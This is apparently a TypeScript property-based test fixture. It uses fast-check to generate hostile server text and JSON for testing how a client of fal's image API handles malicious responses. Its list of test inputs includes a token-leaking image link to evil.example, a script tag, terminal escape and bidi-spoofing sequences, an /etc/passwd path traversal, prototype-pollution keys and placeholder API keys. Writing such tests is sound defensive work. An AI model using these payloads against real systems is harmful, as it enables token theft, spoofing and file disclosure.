import * as fc from "fast-check";

/** As fal's keys look, and as a proxy of somebody's own may have them. */
export const keys = [
  "5ec2e7aa-0bad-4bad-8bad-5ec2e75ec2e7:deadbeefdeadbeefdeadbeef5ec2e75e",
  "me:5ec2e7-odd-secret",
] as const;

/** Where a careless server may put a picture: whoever has the link has it. */
const markedLink = "https://v3.fal.media/files/b/5ec2e7/link.png?token=5ec2e7-token";

const attacks = [
  "[click](command:workbench.action.terminal.new)",
  "![](https://evil.example/x.png?5ec2e7-token)",
  "<script>alert(1)</script>",
  "\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u009b31m\u0000\u0007\b\r\n",
  "\u202egnp.exe\u2066\u200f\u061c\u2028",
  "../../../../etc/passwd",
  "..\\..\\x",
  "__proto__",
  "50%|#####     | 9/18",
  "999999999999999999999%",
  `see ${markedLink}`,
  `key ${keys[0]}`,
  `Authorization: Key ${keys[1]}`,
  "data:image/png;base64,5ec2e7AAAA",
  "x".repeat(5_000),
] as const;

const attack = fc.constantFrom<string>(...attacks);

/** Words of a server that means harm. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  attack,
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.tuple(fc.string({ maxLength: 20 }), attack, attack).map((parts) => parts.join(" ")),
);

const leaf: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, 2 ** 53, 1.5, [], {}),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const names = [
  "__proto__",
  "constructor",
  "toString",
  "then",
  "image",
  "url",
  "request_id",
  "status",
  "logs",
  "message",
  "detail",
  "error",
  "loc",
  "msg",
  "type",
] as const;

/** Any JSON at all, its names often those that are looked for. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, withCrossShrink: true },
    leaf,
    fc.array(tie("value"), { maxLength: 4 }),
    fc
      .array(fc.tuple(fc.constantFrom<string>(...names), tie("value")), { maxLength: 4 })
      .map((entries) => withOwn(entries)),
  ),
})).value;

/** An object with these as its own properties, as `JSON.parse` makes them. */
const withOwn = (entries: readonly (readonly [string, unknown])[]): unknown =>
  JSON.parse(`{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(",")}}`);
